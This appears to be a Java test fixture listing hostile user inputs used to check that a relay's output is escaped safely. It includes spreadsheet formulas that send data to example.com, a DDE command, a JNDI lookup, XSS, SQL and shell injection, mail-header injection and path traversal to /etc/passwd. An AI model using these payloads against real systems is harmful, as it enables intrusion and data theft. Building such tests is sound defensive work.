package io.wotnotrelay.sink;

import java.util.List;
import java.util.stream.Stream;

/** What visitors type. */
final class HostileTexts {
    /**
     * One of them.
     *
     * @param name what a failing test is called
     * @param formula whether a spreadsheet would take it for the beginning of a formula
     */
    record Hostile(String name, String text, boolean formula) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static final List<Hostile> TABLE = List.of(
            text("nothing", ""),
            text("blanks around", " leading and trailing "),
            text("a blank and a formula", " =1+1"),
            text("a blank and a quoted formula", " \"=1+1\""),
            text("a formula behind a semicolon", "x;=1+1;y"),
            text("a formula in the middle of tabs", "x\t=1+1\ty"),
            text("a formula on the second line", "x\n=1+1\ny"),
            text("a formula behind a byte order mark", "\ufeff=1+1"),
            text("a formula behind a hard blank", "\u00a0=1+1"),
            text("plain number", "-5"),
            text("telephone number", "+15555550100"),
            text("quotes", "\"quotes\" 'single' `back` “curly” «angle»"),
            text("one quote", "\""),
            text("backslashes", "\\ \\n \\u0041 \\\" C:\\temp\\ end\\"),
            text("commas and semicolons", "a,b;c\td, \"e\", ,"),
            text("line breaks of all kinds", "line\nbreak\r\nand\rmore\u0085 \u000b \u000c"),
            text("rows for a table", "x\r\n\"evil\",\"row\"\r\n"),
            text("line breaks of Unicode", "a\u2028b\u2029c"),
            text("bullets", "• one\n- two\n- three"),
            text("Simple", "${body.id} ${exception.stacktrace} ${env:PATH} ${sys:user.home} ${bean:x}"),
            text("Simple that does not end", "$simple{body.id} ${"),
            text("placeholders", "{{relay.data}} {{env:PATH}} {{?x}} \\{{ {{file:/etc/passwd}}"),
            text("other template languages", "#{7*7} <%= 7*7 %> {% raw %} #set($x=1) ${{7*7}} [[${7*7}]]"),
            text("Camel's own words", "RAW(x) RAW{y} #bean:evil #class:java.lang.Thread resource:file:/etc/passwd"),
            text("JNDI", "${jndi:ldap://example.com/a}"),
            text("end of a JSON value", "} }} ]] \"}, {\"admin\": true, \"x\": \""),
            text("JSON", "{\"a\": null, \"b\": [1e999, -0]}"),
            text("keys of prototypes", "\"__proto__\": {\"admin\": true}"),
            text("controls", "\u0001\u0002\u0003 bell\u0007 back\b del\u007f c1\u009b2J"),
            text("U+0000", "nul\u0000 \u0000"),
            text("escapes of terminals", "\u001b[2J\u001b]0;title\u0007\u001b[31mred"),
            text("halves of characters", "lone \ud83d high, lone \udc00 low \ud83d"),
            text("what is no character", "\ufffe \uffff \ufdd0 \ufffd"),
            text("marks of direction", "\u202egpj.exe \u2066isolate\u2069 \u200e\u200f\u061c"),
            text("right to left", "مرحبا بالعالم שלום"),
            text("what cannot be seen", "zero\u200bwidth\u200c\u200d\u2060 \ufeff bom soft\u00adhyphen"),
            text("tags", "x\udb40\udc41\udb40\udc7f"),
            text("letters of the world", "ünïcödé 漢字 ไทย हिन्दी İıſß"),
            text("a letter with many marks", "Z" + "\u0301".repeat(200)),
            text("emoji", "😀 👩‍👩‍👧 🇪🇺 ✈️"),
            text("look-alikes", "рaypal.com ａｄｍｉｎ ⁄ etc"),
            text("HTML", "<script>alert(1)</script> & &amp; &#x27; </td></table>"),
            text("HTML that runs", "\"><img src=x onerror=alert(1)><svg/onload=alert(1)>"),
            text("a link that runs", "javascript:alert(1) data:text/html,<b>x</b> vbscript:x"),
            text("comments of HTML", "<!-- --> <![CDATA[ ]]> <?xml version=\"1.0\"?>"),
            text("entities of XML", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;"),
            text("a header more", "\r\nX-Evil: 1\r\n\r\nGET / HTTP/1.1", true),
            text("a recipient more", "a@example.com, b@example.com"),
            text("a recipient in a header", "x\r\nBcc: evil@example.com"),
            text("commands of SMTP", "x\r\n.\r\nMAIL FROM:<evil@example.com>\r\nRCPT TO:<b@example.com>"),
            text("an encoded word", "=?utf-8?B?DQpCY2M6IGV2aWxAZXhhbXBsZS5jb20=?=", true),
            text("parts of a mail", "--\r\nContent-Type: text/html\r\n\r\n<b>x</b>", true),
            text("parts of a URL", "%0d%0aX-Evil: 1 %2e%2e/../..?a=b#c http://169.254.169.254/latest"),
            text("parents of folders", "../../../etc/passwd ..\\..\\windows %00.txt"),
            text("a device", "CON"),
            text("SQL", "'; DROP TABLE events; -- \" OR 1=1"),
            text("a shell", "$(id) `id` ; id | id && id > /tmp/x"),
            text("everybody", "@channel <!here> <@U1> *bold* _x_ [link](https://example.com)", true),
            text("a formula", "=1+1", true),
            text("IMPORTXML", "=IMPORTXML(\"https://example.com/?\"&A1,\"//a\")", true),
            text("HYPERLINK", "=HYPERLINK(\"https://example.com/\"&A1,\"click\")", true),
            text("DDE", "=cmd|' /C calc'!A0", true),
            text("plus", "+1-1", true),
            text("minus", "-2+3", true),
            text("minus alone", "-", true),
            text("at", "@SUM(A1:A9)", true),
            text("a formula behind a tab", "\t=1+1", true),
            text("a formula behind a return", "\r=1+1", true),
            text("a formula behind a line break", "\n=1+1", true),
            text("a full-width formula", "＝1+1", true),
            text("a full-width plus", "＋1+1", true),
            text("a full-width minus", "－1+1", true),
            text("a full-width at", "＠SUM(A1)", true),
            text("a formula behind an apostrophe", "'=1+1"),
            text("a formula behind a quote", "\"=1+1"),
            text("what looks like a date", "1/2"),
            text("what looks like a number", "00123 1e5 0x1F 1,000.50 TRUE"),
            text("longer than a subject", "word ".repeat(300)),
            text("longer than a subject, without a blank", "漢".repeat(1_000)),
            text("longer than a cell", "x".repeat(1_000_000)),
            text("longer than a cell, of emoji", "x" + "😀".repeat(60_000)),
            text("long and of what is escaped", "\"\\\ud83d".repeat(100_000)));

    private HostileTexts() {}

    private static Hostile text(String name, String text, boolean... formula) {
        return new Hostile(name, text, formula.length > 0);
    }

    static List<Hostile> table() {
        return TABLE;
    }

    static Stream<String> all() {
        return TABLE.stream().map(Hostile::text);
    }

    /** What arrives where U+0000 and halves of characters cannot. */
    static String whole(String text) {
        return text.replaceAll(
                "\\x00|[\\ud800-\\udbff](?![\\udc00-\\udfff])|(?<![\\ud800-\\udbff])[\\udc00-\\udfff]", "\ufffd");
    }
}
